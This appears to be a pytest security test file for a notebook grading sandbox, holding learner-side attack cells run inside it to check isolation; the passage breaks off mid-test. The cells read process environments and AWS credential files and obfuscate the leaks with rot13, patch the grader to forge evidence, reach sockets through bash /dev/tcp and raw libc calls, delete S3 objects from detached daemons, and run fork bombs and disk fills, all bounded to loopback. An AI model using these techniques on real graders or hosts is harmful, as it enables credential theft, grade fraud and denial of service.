"""Attacks on the grading sandbox, from the learner's side.

Every attack here is code in a learner's notebook cell (or a .py submission), graded by the real grader
in a subprocess: it reads, writes, signals, forks, connects and floods from inside its sandbox, and
prints what it observed (``RESULT key: value`` lines, read back from the executed notebook). Each test
asserts that the attacks failed AND that the honest submissions graded in the same class, after the
attackers, still get their exact verdicts. Most of these tests fail with ``--lab-sandbox none``.

A test gathers every problem it finds before it fails, so that one hole does not hide another.

Ground rules kept by the attacks, so that a hole cannot hurt this machine or the people sharing it:
no packet is ever sent to an address outside 127.0.0.0/8 (not even to show that it is blocked); the
plugin's, the lab's and the interpreter's files are only *opened* for writing, never written (new
files created in their folders carry a marker and are removed by the test); ``kill(-1)`` is only
sent by a process that is not root; the fork bomb, the memory and the disk attacks are bounded.

Every process of a graded run carries a tag in its environment (``LANGUAGE`` is passed through to
submissions): what is left of a run afterwards is found by that tag, reported, and killed by its id.
"""

from __future__ import annotations

import codecs
import contextlib
import json
import os
import re
import signal
import socket
import string
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from .conftest import LAB41, SDK_MAJOR

REFERENCE = LAB41 / f"solution_sdk{SDK_MAJOR}.ipynb"
STARTER = LAB41 / "starter.ipynb"
STAGES = ("libomp_present", "xgboost_importable", "sagemaker_sdk_compatible", "s3_objects_reachable",
          "estimator_config_valid", "fit_completes", "model_artifact_present")
P, F, S = "passed", "failed", "skipped"
FULL_MARKS = (P,) * 7
# What the unfilled starter earns: nothing (the grader's self-test holds it to 0/7).
STARTER_OUTCOMES = (F, S, F, F, S, S, S)
# A notebook that never imports xgboost, never uses the SDK and leaves the lab's data where the
# earlier labs put it: the data is reachable, nothing else is earned.
NOTHING_OUTCOMES = (F, S, F, P, S, S, S)
MIB = 1 << 20


# -- building submissions ---------------------------------------------------------------------------
def _code(template: str, **values: Any) -> str:
    """An attack cell: ``$name`` in ``template`` replaced by ``repr(value)``."""
    return string.Template(template).substitute({name: repr(value) for name, value in values.items()})


def _notebook(folder: Path, name: str, cells: Iterable[str], base: Path | None = None, at: int | None = None,
              replace: tuple[str, str] | None = None) -> Path:
    """``base`` (or an empty notebook) with ``cells`` inserted at code position ``at`` (default: at the
    end); ``replace=(needle, source)`` swaps the code cell containing ``needle`` for ``source``."""
    nb = nbformat.read(base, as_version=4) if base else nbformat.v4.new_notebook()
    if replace is not None:
        needle, source = replace
        (index,) = [i for i, cell in enumerate(nb.cells) if cell.cell_type == "code" and needle in cell.source]
        nb.cells[index] = nbformat.v4.new_code_cell(source)
    new = [nbformat.v4.new_code_cell(source) for source in cells]
    position = len(nb.cells) if at is None else at
    nb.cells[position:position] = new
    path = folder / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


def _copy(folder: Path, name: str, source: Path) -> Path:
    path = folder / f"{name}{source.suffix}"
    path.write_bytes(source.read_bytes())
    return path


# -- grading a class --------------------------------------------------------------------------------
@dataclass
class Graded:
    out: Path
    report: dict
    stdout: str
    stderr: str
    elapsed: float
    hung: bool
    survivors: dict[int, str]  # pid: command line, of every process of the run still alive after it
    report_error: str | None = None

    @property
    def rows(self) -> dict[str, dict]:
        return {row["name"]: row for row in self.report.get("submissions", [])}

    def outcomes(self, name: str) -> tuple[str, ...]:
        stages = {stage["id"]: stage["outcome"] for stage in self.rows[name]["stages"]}
        return tuple(stages.get(stage, "absent") for stage in STAGES)

    def message(self, name: str, stage: str) -> str:
        return next((s.get("message") or "" for s in self.rows[name]["stages"] if s["id"] == stage), "")

    def printed(self, name: str) -> str:
        """Everything the submission's cells printed, as its executed notebook keeps it (a .py file's
        cells run as a notebook too: ``<name>.py.ipynb``)."""
        path = self.out / "executed" / f"{name}.ipynb"
        if not path.exists():
            path = self.out / "executed" / f"{name}.py.ipynb"
        if not path.exists():
            return ""
        nb = nbformat.read(path, as_version=4)
        parts = []
        for cell in nb.cells:
            for output in cell.get("outputs", []):
                # A stream's text as it was written: one print may arrive in two stream outputs (the
                # kernel flushes on a timer), and a line must not be cut where they meet.
                parts.append(output.get("text", ""))
                parts.extend(f"\n{line}\n" for line in output.get("traceback", []))
                if "data" in output:
                    parts.append(f"\n{output['data'].get('text/plain', '')}\n")
        return "".join(parts)

    def results(self, name: str) -> dict[str, str]:
        """The ``RESULT key: value`` lines the submission printed."""
        return {key: value.strip() for key, value in re.findall(r"^RESULT (\S+): ?(.*)$", self.printed(name), re.M)}

    def written(self) -> list[tuple[str, str]]:
        """Everything the run wrote or said: its files beside the report, its stdout and stderr."""
        texts = [(str(path), path.read_text(encoding="utf-8", errors="replace"))
                 for path in self.out.rglob("*") if path.is_file()]
        return [*texts, ("stdout", self.stdout), ("stderr", self.stderr)]


def _processes_with(needles: Iterable[str]) -> dict[int, str]:
    """Processes whose environment or command line holds one of ``needles``."""
    wanted = [needle.encode() for needle in needles]
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read()
            with open(f"/proc/{entry}/environ", "rb") as handle:
                environ = handle.read()
        except OSError:
            continue
        if any(needle in command or needle in environ for needle in wanted):
            found[int(entry)] = command.replace(b"\0", b" ").decode(errors="replace")
    return found


def _grade(tmp: Path, folder: Path, *args: str, env: dict[str, str] | None = None, markers: Iterable[str] = (),
           limit: float = 300) -> Graded:
    """Grade ``folder`` with the real grader in a subprocess (a session of its own, killed past
    ``limit`` seconds); then find, report and kill whatever of the run is still alive."""
    tag = f"sml-attack-{uuid.uuid4().hex[:12]}"
    out = tmp / "out"
    report = out / "grades.json"
    environ = {name: value for name, value in os.environ.items()
               if not name.startswith(("PYTEST_XDIST_", "PYTEST_CURRENT_TEST"))}
    environ.update(env or {})
    environ["LANGUAGE"] = f"en:{tag}"  # passed through to every process of a submission: the run's tag
    command = [sys.executable, "-m", "pytest", str(LAB41), "-p", "no:randomly", "-p", "no:cacheprovider",
               f"--lab-submission={folder}", f"--lab-report={report}", *args]
    started = time.monotonic()
    process = subprocess.Popen(command, cwd=tmp, env=environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, errors="replace", start_new_session=True)
    hung = False
    try:
        stdout, stderr = process.communicate(timeout=limit)
    except subprocess.TimeoutExpired:
        hung = True
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        stdout, stderr = process.communicate()
    elapsed = time.monotonic() - started
    needles = [tag, *markers]
    left: dict[int, str] = {}
    for _ in range(30):  # what ends with the run has 3 s to go
        left = _processes_with(needles)
        if not left:
            break
        time.sleep(0.1)
    for pid in left:  # this run's processes: ended by their id
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    document: dict = {}
    report_error = None
    if report.exists():
        try:
            document = json.loads(report.read_text(encoding="utf-8"))
        except ValueError as exc:
            report_error = f"{report} is not JSON ({exc}): {report.read_text(errors='replace')[:200]!r}"
    else:
        report_error = f"no report at {report}"
    return Graded(out=out, report=document, stdout=stdout, stderr=stderr, elapsed=elapsed, hung=hung,
                  survivors=left,
                  report_error=report_error)


@dataclass
class Findings:
    """Every problem a test finds, reported together at its end."""

    graded: Graded | None = None
    problems: list[str] = field(default_factory=list)

    def check(self, ok: object, what: str) -> bool:
        if not ok:
            self.problems.append(what)
        return bool(ok)

    def verdict(self, name: str, outcomes: tuple[str, ...] | None = None, score: int | None = None,
                error: Any = ..., messages: dict[str, str] | None = None) -> None:
        """``name`` has a row with these outcomes, score, error (``...``: any; a str: a fragment of it)."""
        graded = self.graded
        assert graded is not None
        row = graded.rows.get(name)
        if not self.check(row is not None, f"{name}: no row in the report"):
            return
        if outcomes is not None:
            self.check(graded.outcomes(name) == outcomes,
                       f"{name}: outcomes {graded.outcomes(name)}, expected {outcomes}; "
                       f"messages {[(s['id'], s.get('message')) for s in row['stages']]}; error {row.get('error')!r}")
        if score is not None:
            self.check(row.get("score") == score, f"{name}: score {row.get('score')}, expected {score} "
                                                  f"(error {row.get('error')!r})")
        if error is None:
            self.check(row.get("error") is None, f"{name}: error {row.get('error')!r}, expected none")
        elif isinstance(error, str):
            self.check(error in (row.get("error") or ""), f"{name}: error {row.get('error')!r}, expected {error!r}")
        for stage, fragment in (messages or {}).items():
            self.check(fragment in graded.message(name, stage),
                       f"{name}: {stage} says {graded.message(name, stage)!r}, expected {fragment!r}")

    def honest(self, *names: str) -> None:
        for name in names:
            self.verdict(name, FULL_MARKS, 7, None)

    def result(self, name: str, key: str, accept: Any, what: str) -> str | None:
        """The ``RESULT key`` line ``name`` printed, checked with ``accept`` (a predicate or a prefix)."""
        assert self.graded is not None
        value = self.graded.results(name).get(key)
        ok = value is not None and (accept(value) if callable(accept) else value.startswith(accept))
        self.check(ok, f"{name}: {what}: the notebook printed {key}={value!r}")
        return value

    def no_survivors(self, what: str) -> None:
        assert self.graded is not None
        survivors = self.graded.survivors
        self.check(not survivors, f"{what}: {len(survivors)} process(es) of the graded run outlived it (killed by "
                                  f"the test): " + "; ".join(f"{pid}: {command[:160]}"
                                                             for pid, command in sorted(survivors.items())[:6]))

    def done(self) -> None:
        graded = self.graded
        context = ""
        if graded is not None:
            rows = {name: (row.get("score"), row.get("error")) for name, row in graded.rows.items()}
            seen = {name: graded.results(name) for name in graded.rows}
            context = (f"\n--- run: {graded.elapsed:.0f} s, hung={graded.hung}, report error={graded.report_error}"
                       f"\n--- rows: {rows}\n--- what the submissions printed: {seen}"
                       f"\n--- grader stdout (end):\n{graded.stdout[-3000:]}"
                       f"\n--- grader stderr (end):\n{graded.stderr[-2000:]}")
        assert not self.problems, "\n".join(f"- {problem}" for problem in self.problems) + context

    def start(self, graded: Graded) -> Graded:
        self.graded = graded
        self.check(not graded.hung, f"the graded run did not end within its limit ({graded.elapsed:.0f} s)")
        self.check(graded.report_error is None, f"the report: {graded.report_error}")
        return graded


# -- the attacks ------------------------------------------------------------------------------------
# The grader's secrets: its environment, its ~/.aws, its other files. What is found is printed
#    reversed and rot13'd, as a learner would to get past a redaction of the grader's own values.
STEAL_SECRETS = r"""
import codecs, os, re
# The shape of the grader's secrets in this test. (Only those are printed: should the boundary fail,
# no real secret of this machine ends up in a test's files.)
SECRET = re.compile(rb'grader-|ghp_')

def leak(what, text):
    text = text.decode('utf-8', 'replace') if isinstance(text, bytes) else text
    print('LEAK', what, codecs.encode(text, 'rot13')[:3000], text[::-1][:3000])

def attempt(what, path):
    try:
        with open(path, 'rb') as handle:
            data = handle.read(100_000)
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}')
        return
    print(f'RESULT {what}: READ {len(data)} bytes')
    for line in re.split(rb'[\0\n]', data):
        if SECRET.search(line):
            leak(what, line)

attempt('parent_environ', f'/proc/{os.getppid()}/environ')
attempt('grader_credentials', os.path.join($home, '.aws', 'credentials'))
attempt('root_credentials', '/root/.aws/credentials')
attempt('grader_notes', $notes)
attempt('other_submission', $other)
attempt('lab_solution', $solution)
attempt('plugin_tests', $tests)
print('RESULT report_folder:', sorted(os.listdir($out)) if os.path.isdir($out) else 'absent')

# Every environment this process can read: the grader's secrets in any of them.
readable = 0
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        with open(f'/proc/{pid}/environ', 'rb') as handle:
            entries = handle.read().split(b'\0')
    except Exception:
        continue
    readable += 1
    for entry in entries:
        if SECRET.search(entry):
            leak(f'environ {pid}', entry)
print('RESULT environs_readable:', readable)

# Walk the disk for credentials files (bounded).
found, seen = [], 0
for top in ('/root', '/home', '/work', '/tmp', '/run', '/'):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr', 'site-packages', '.pyenv', '.git')]
        seen += len(files)
        for file in files:
            if file == 'credentials' or 'secret' in file.lower() or file.startswith('grader-'):
                found.append(os.path.join(folder, file))
        if seen > 20_000:
            break
for path in found[:20]:
    attempt('found ' + path, path)
print('RESULT credentials_found:', len(found))
"""

# Writes to the grader's files. Product files are only opened for writing (nothing is written);
#    new files carry the marker, the test removes them; the class's own files are really overwritten.
WRITE_FILES = r"""
import os, site, sysconfig
import pytest_sagemaker_lab
plugin = os.path.dirname(pytest_sagemaker_lab.__file__)

def open_for_writing(what, path):
    try:
        with open(path, 'r+b'):
            pass
        print(f'RESULT {what}: WRITABLE')
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}')

def write(what, path, mode, text, said):
    try:
        with open(path, mode) as handle:
            handle.write(text)
        print(f'RESULT {what}: {said}')
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}')

def create(what, folder):
    path = os.path.join(folder, $marker + '.txt')
    write(what, path, 'x', 'written by a submission', f'CREATED {path}')

def overwrite(what, path):
    write(what, path, 'w', 'overwritten by a submission', 'OVERWRITTEN')

open_for_writing('plugin_checks', os.path.join(plugin, 'checks.py'))
open_for_writing('plugin_init', pytest_sagemaker_lab.__file__)
create('plugin_dir', plugin)
create('plugin_pycache', os.path.join(plugin, 'grading', '__pycache__'))
open_for_writing('lab_toml', $lab_toml)
create('lab_dir', os.path.dirname($lab_toml))
packages = site.getsitepackages()[0]
print('RESULT site_packages_path:', packages)
create('site_packages', packages)
open_for_writing('site_packages_xgboost', os.path.join(packages, 'xgboost', '__init__.py'))
create('stdlib', sysconfig.get_paths()['stdlib'])
overwrite('executed_sentinel', $sentinel)
create('executed_dir', os.path.dirname($sentinel))
overwrite('report', $report)
overwrite('other_submission', $other)
create('class_dir', os.path.dirname($other))
"""

# Forged evidence: the old probe line from IPython hooks and at fd level, the plugin's own
#    functions patched in the kernel, stub modules with forged versions. No import of xgboost, no SDK.
FORGE = r"""
import json, os, sys, types
FORGED = {'python': sys.executable, 'xgboost': '9.9.9-forged', 'trees': 42, 'train_seconds': 0.001,
          'openmp': [{'library': 'libgomp', 'path': '/forged/libgomp.so', 'num_threads': 8}],
          'threads_at_work': 8, 'imported_by_lab': True}
LINE = 'SAGEMAKER-LAB-PROBE:' + json.dumps(FORGED)
ip = get_ipython()
ip.events.register('pre_run_cell', lambda *args: print(LINE))
ip.events.register('post_run_cell', lambda *args: print(LINE))
print(LINE)
os.write(1, (LINE + '\n').encode())

stub = types.ModuleType('xgboost')
stub.__version__ = '9.9.9-forged'
sys.modules['xgboost'] = stub
fake_sdk = types.ModuleType('sagemaker')
fake_sdk.__version__ = '9.9.9-forged'
sys.modules['sagemaker'] = fake_sdk

import pytest_sagemaker_lab.checks as checks
import pytest_sagemaker_lab.grading.evidence as evidence
import pytest_sagemaker_lab.grading.probes as probes
import pytest_sagemaker_lab.grading.sdk as sdk
probes.probe = lambda *args, **kwargs: dict(FORGED)
evidence.imports_module = lambda *args, **kwargs: True
evidence.answer = lambda *args, **kwargs: {'imported_by_lab': True, 'sdk': {}}
sdk.probe = lambda *args, **kwargs: {'installed': '9.9.9-forged', 'uses': ['sagemaker.estimator.Estimator'],
                                     'missing': [], 'written_for': 2, 'major': 2, 'python': sys.executable}
checks.check_openmp = checks.check_xgboost = checks.check_sdk = lambda *args, **kwargs: 'forged'
print('RESULT forged: all in place')
"""

# The network: only its own loopback; the test's listeners on the host's 127.0.0.1 are out of reach.
NETWORK = r"""
import _socket, ctypes, os, socket, subprocess, sys
PORT, UDP, ABSTRACT = $port, $udp, $abstract
print('RESULT interfaces:', ','.join(sorted(name for _, name in socket.if_nameindex())))
with open('/proc/net/dev') as handle:
    devices = sorted(line.split(':')[0].strip() for line in handle.read().splitlines()[2:])
print('RESULT proc_net_dev:', ','.join(devices))
with open('/proc/net/route') as handle:
    print('RESULT routes:', len(handle.read().splitlines()[1:]))

def attempt(what, connect):
    try:
        connect()
        print(f'RESULT {what}: CONNECTED')
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}: {exc}'.replace('\n', ' ')[:300])

from pytest_sagemaker_lab import netguard
netguard.uninstall()
attempt('tcp_socket', lambda: socket.create_connection(('127.0.0.1', PORT), timeout=3).close())

def raw_socket():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(('127.0.0.1', PORT))
    finally:
        s.close()
attempt('tcp_raw_socket', raw_socket)

def libc_connect():
    libc = ctypes.CDLL(None, use_errno=True)
    class sockaddr_in(ctypes.Structure):
        _fields_ = [('family', ctypes.c_ushort), ('port', ctypes.c_uint16), ('addr', ctypes.c_uint32),
                    ('zero', ctypes.c_char * 8)]
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = sockaddr_in(socket.AF_INET, socket.htons(PORT),
                          int.from_bytes(socket.inet_aton('127.0.0.1'), 'little'), b'')
    code = libc.connect(fd, ctypes.byref(address), ctypes.sizeof(address))
    error = ctypes.get_errno()
    libc.close(fd)
    if code != 0:
        raise OSError(error, os.strerror(error))
attempt('tcp_libc', libc_connect)

def bash():
    done = subprocess.run(['bash', '-c', f'echo sml > /dev/tcp/127.0.0.1/{PORT}'], capture_output=True, timeout=15)
    if done.returncode:
        raise OSError(done.stderr.decode(errors='replace').strip()[-200:])
attempt('tcp_bash', bash)

def isolated_python():
    code = f'import socket; socket.create_connection(("127.0.0.1", {PORT}), timeout=3).close()'
    done = subprocess.run([sys.executable, '-I', '-c', code], capture_output=True, timeout=30)
    if done.returncode:
        raise OSError(done.stderr.decode(errors='replace').strip().splitlines()[-1])
attempt('tcp_python_isolated', isolated_python)

def udp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    for _ in range(3):
        s.sendto(b'sml-udp', ('127.0.0.1', UDP))
    s.close()
attempt('udp_sendto', udp)

def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(ABSTRACT)
    finally:
        s.close()
attempt('abstract_unix', abstract)
"""

# A flood: 20 MiB through print, 4 MiB written to fd 1, 4 MiB from a child process.
FLOOD = r"""
import os, subprocess
chunk = 'x' * 65535 + '\n'
for _ in range(20 * 16):
    print(chunk, end='')
os.write(1, b'y' * (4 << 20))
subprocess.run('head -c 4000000 /dev/zero | tr "\\0" z', shell=True)
print('RESULT flood: done')
"""

# Daemons, in a new session and by a double fork: they would delete the next submissions' data
#    and overwrite the report, for 60 s at most.
DAEMONS = r"""
import os, subprocess, sys, textwrap
code = textwrap.dedent('''
    import sys, time
    deadline = time.time() + 60
    while time.time() < deadline:
        try:
            import boto3
            s3 = boto3.client('s3')
            for bucket in s3.list_buckets()['Buckets']:
                for entry in s3.list_objects_v2(Bucket=bucket['Name']).get('Contents', []):
                    s3.delete_object(Bucket=bucket['Name'], Key=entry['Key'])
        except Exception:
            pass
        for path in sys.argv[2:]:
            try:
                with open(path, 'w') as handle:
                    handle.write('overwritten by a daemon')
            except Exception:
                pass
        time.sleep(0.5)
''')
session = subprocess.Popen([sys.executable, '-c', code, $marker + '-session', $report, $csv],
                           start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
print('RESULT session_daemon:', session.pid)
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, '-c', code, $marker + '-doublefork', $report, $csv])
    os._exit(0)
os.waitpid(child, 0)
print('RESULT double_fork_daemon: started')
"""

# Signals at the grader.
KILL_PARENT = r"""
import os, signal, time
def attempt(what, pid, sig=signal.SIGKILL):
    try:
        os.kill(pid, sig)
        print(f'RESULT {what}: sent to {pid}', flush=True)
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}', flush=True)
attempt('kill_parent', os.getppid())
with open('/proc/1/environ', 'rb') as handle:
    told = dict(entry.split(b'=', 1) for entry in handle.read().split(b'\0') if b'=' in entry)
if b'JPY_PARENT_PID' in told:  # the pid of the process that started the kernel, as it was told
    attempt('kill_jpy_parent', int(told[b'JPY_PARENT_PID']))
time.sleep(1)
print('RESULT alive_after: yes', flush=True)
"""

KILL_GROUP = r"""
import os, signal
for what, kill in (('killpg_own_group', lambda: os.killpg(os.getpgrp(), signal.SIGKILL)),
                   ('kill_group_zero', lambda: os.kill(0, signal.SIGKILL))):
    try:
        print(f'RESULT {what}: sending', flush=True)
        kill()
        print(f'RESULT {what}: no effect', flush=True)
    except Exception as exc:
        print(f'RESULT {what}: refused {type(exc).__name__}', flush=True)
"""

KILL_ALL = r"""
import os, signal, time
if os.getuid() == 0:
    print('RESULT kill_all: not sent (this process is root: kill(-1) would end every process of the machine)')
else:
    try:
        os.kill(-1, signal.SIGKILL)
        print('RESULT kill_all: sent', flush=True)
    except Exception as exc:
        print(f'RESULT kill_all: refused {type(exc).__name__}', flush=True)
time.sleep(1)
print('RESULT alive_after: yes', flush=True)
"""

# The neighbours under -n 2: their processes, their kernels' connection files, the control API.
NEIGHBOURS = r"""
import http.client, json, os, urllib.error, urllib.parse, urllib.request
import boto3
commands, sockets = {}, {}
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as handle:
            commands[int(pid)] = handle.read().split(b'\0')
        for fd in os.listdir(f'/proc/{pid}/fd'):
            target = os.readlink(f'/proc/{pid}/fd/{fd}')
            if target.startswith('socket:['):
                sockets[target[8:-1]] = int(pid)
    except Exception:
        pass
mine = {1, os.getpid()}  # the sandbox's first process (its launcher), this kernel, and what it started
for pid in sorted(commands):
    with open(f'/proc/{pid}/stat') as handle:
        if int(handle.read().rsplit(')', 1)[1].split()[1]) in mine:
            mine.add(pid)
others = [pid for pid in commands if pid not in mine]
print('RESULT pids:', len(commands))
print('RESULT other_processes:', len(others))
print('RESULT kernels_seen:', sum(b'ipykernel_launcher' in command[1:3] for command in commands.values()))
with open('/proc/self/cmdline', 'rb') as handle:
    own = handle.read().split(b'\0')
own_file = os.path.realpath(own[own.index(b'-f') + 1].decode()) if b'-f' in own else None
def is_connection_file(path):
    # A kernel's connection file holds its HMAC key; a kernelspec (kernels/python3/kernel.json, seen
    # where the interpreter itself lies under /tmp) holds none.
    try:
        with open(path) as handle:
            return 'key' in json.load(handle)
    except (OSError, ValueError):
        return True  # unreadable: counted, to be looked at

found = set()
for top in ('/tmp', '/run', os.path.expanduser('~'), '/root/.local/share/jupyter', '/dev/shm'):
    for folder, dirs, files in os.walk(top):
        found.update(os.path.realpath(os.path.join(folder, f)) for f in files
                     if f.startswith('kernel') and f.endswith('.json') and is_connection_file(os.path.join(folder, f)))
print('RESULT foreign_connection_files:', len(found - {own_file}), sorted(found - {own_file})[:5])
listeners = []
for table in ('/proc/net/tcp', '/proc/net/tcp6'):
    with open(table) as handle:
        for line in handle.read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == '0A':  # LISTEN
                listeners.append((int(fields[1].split(':')[1], 16), sockets.get(fields[9])))
print('RESULT bridge_listens:', any(port == 4566 and owner == 1 for port, owner in listeners))
print('RESULT foreign_listeners:', len([l for l in listeners if l[1] not in mine]), sorted(listeners)[:8])
endpoint = os.environ['AWS_ENDPOINT_URL']
for path in ('/moto-api/reset', '/moto-api/data.json', '/moto-api/seed?a=42', '/moto-api/reset-auth',
             '/moto-api/state-manager/set-transition', '/moto-api/recorder/start-recording'):
    try:
        urllib.request.urlopen(urllib.request.Request(endpoint + path, data=b'', method='POST'), timeout=10)
        print(f'RESULT api:{path}: OPEN')
    except urllib.error.HTTPError as exc:
        print(f'RESULT api:{path}: {exc.code}')
    except Exception as exc:
        print(f'RESULT api:{path}: {type(exc).__name__}')
where = urllib.parse.urlsplit(endpoint)
for path in ('//moto-api/reset', '/%6Doto-api/reset', 'http://motoapi.amazonaws.com/moto-api/reset'):
    connection = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
    try:
        connection.request('POST', path, body=b'', headers={'Host': 'motoapi.amazonaws.com'})
        print(f'RESULT raw:{path}: {connection.getresponse().status}')
    except Exception as exc:
        print(f'RESULT raw:{path}: {type(exc).__name__}')
    finally:
        connection.close()
print('RESULT buckets_after:', ','.join(sorted(b['Name'] for b in boto3.client('s3').list_buckets()['Buckets'])))
"""

# Swallows every interrupt, with a child in a session of its own that ignores every signal it can.
SWALLOW = r"""
import subprocess, sys, time
child = subprocess.Popen([sys.executable, '-c', 'import signal, time\n'
                          'for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\n'
                          'while True: time.sleep(0.2)', $marker], start_new_session=True)
print('RESULT child:', child.pid, flush=True)
while True:
    try:
        while True:
            time.sleep(0.1)
    except BaseException as exc:
        print('RESULT swallowed:', type(exc).__name__, flush=True)
"""

# Limits: memory, processes, file size, disk.
MEMORY = r"""
import mmap
try:  # mapped, not touched: harmless even where no limit holds
    area = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, 'MAP_NORESERVE', 0))
    print('RESULT mmap_8g: MAPPED')
    area.close()
except Exception as exc:
    print('RESULT mmap_8g: refused', type(exc).__name__)
    try:
        block = bytearray(8 << 30)
        print('RESULT bytearray_8g: ALLOCATED')
        del block
    except MemoryError:
        print('RESULT bytearray_8g: MemoryError')
"""

WRITE_HELPER = r"""
import errno, os
def write(path, mib):
    '''Write up to ``mib`` MiB to a new file; (MiB written, how it ended).'''
    block, written, ended = b'\0' * (1 << 20), 0, 'ok'
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    try:
        while written < mib << 20:
            written += os.write(fd, block)
    except OSError as exc:
        ended = errno.errorcode.get(exc.errno, str(exc.errno))
    finally:
        os.close(fd)
    return written / (1 << 20), ended
"""

BIG_FILE = WRITE_HELPER + r"""
size, ended = write('/tmp/big', 40)
os.unlink('/tmp/big')
print(f'RESULT big_file: {size:.0f} MiB {ended}')
"""

FILL_DISK = WRITE_HELPER + r"""
# Every folder this process can write to, one per file system; in each, files just under the file
# size limit until the disk is full (at most 4 of them). Removed afterwards.
places = {}
for top in ('/tmp', os.path.expanduser('~'), '/run', '/var/tmp', '/dev/shm', '/home'):
    for folder, dirs, files in os.walk(top):
        if os.access(folder, os.W_OK):
            places.setdefault(os.stat(folder).st_dev, folder)
for folder in places.values():
    total, ended, made = 0.0, 'ok', []
    for n in range(4):
        path = os.path.join(folder, f'fill-{n}')
        try:
            size, ended = write(path, 31)
        except OSError as exc:
            ended = errno.errorcode.get(exc.errno, str(exc.errno))
            break
        made.append(path)
        total += size
        if ended != 'ok':
            break
    for path in made:
        os.unlink(path)
    print(f'RESULT fill:{folder}: {total:.0f} MiB {ended}')
"""

FORK_BOMB = r"""
import subprocess
children, refused, other = [], 0, set()
for _ in range(2000):
    try:
        children.append(subprocess.Popen(['sleep', '60'], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL))
    except BlockingIOError:
        refused += 1
    except OSError as exc:
        other.add(type(exc).__name__)
        refused += 1
print('RESULT started:', len(children))
print('RESULT refused:', refused, sorted(other))
"""

# A .py submission that leaves a FIFO where the grader reads its result, and one that forges it.
RUNTIME_PY = r"""# %%
# The only folder of the grader's disk in the sandbox holds the kernel's connection file and sockets:
# once the kernel is up, nothing more may be made there (a root grader seals it).
import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
print('RESULT runtime:', folder, flush=True)
try:
    os.mkfifo(os.path.join(folder, 'result.json'))
    print('RESULT fifo: made', flush=True)
except OSError as exc:
    print('RESULT fifo: refused', type(exc).__name__, flush=True)
try:
    with open(os.path.join(folder, 'filler'), 'wb') as handle:
        handle.write(b'x' * 1024)
    print('RESULT write: made', flush=True)
except OSError as exc:
    print('RESULT write: refused', type(exc).__name__, flush=True)
"""

EXITS_EARLY_PY = r"""# %%
# Says all went well and leaves before its next cell: which cells ran is what nbclient sent, not what
# the submission says of itself.
import os
print('all cells ran', flush=True)
os._exit(0)

# %%
import xgboost as xgb

print(xgb.__version__)
"""


def _variants(text: str) -> tuple[str, str, str]:
    """A secret as it could appear in the output: as is, reversed, rot13'd."""
    return text, text[::-1], codecs.encode(text, "rot13")


def _file_state(path: Path) -> tuple[bytes, int]:
    return path.read_bytes(), path.stat().st_mtime_ns


# -- the tests --------------------------------------------------------------------------------------
def test_secrets_files_and_evidence_are_out_of_the_learners_reach(tmp_path):
    """A submission reads the grader's environment (through /proc), its ~/.aws and its
    other files; writes to the plugin, the lab, site-packages, the report, the executed notebooks and
    another submission; forges its evidence (hooks, patched plugin functions, stub modules, a dead
    ``import xgboost``). It reads nothing, changes nothing, and is graded on what it did."""
    folder = tmp_path / "class"
    folder.mkdir()
    out = tmp_path / "out"
    (out / "executed").mkdir(parents=True)
    key = uuid.uuid4().hex
    secret, token, credential, note = (f"grader-secret-{key}", f"ghp_{key}", f"grader-credentials-marker-{key}",
                                       f"grader-notes-marker-{key}")
    home = tmp_path / "grader-home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(f"[default]\naws_access_key_id = AKIA{key[:16].upper()}\n"
                                               f"aws_secret_access_key = {credential}\n")
    notes = out / "grader-notes.txt"
    notes.write_text(note)
    sentinel = out / "executed" / "z_sentinel.ipynb"
    sentinel.write_text("{}")
    marker = f"sml-attack-write-{key[:8]}"
    honest = _copy(folder, "z_reference", REFERENCE)
    _copy(folder, "z_starter", STARTER)
    _notebook(folder, "a_steal", [_code(STEAL_SECRETS, home=str(home), notes=str(notes), other=str(honest),
                                        solution=str(LAB41 / "solution_sdk2.py"),
                                        tests=str(Path(__file__).parent / "conftest.py"), out=str(out))])
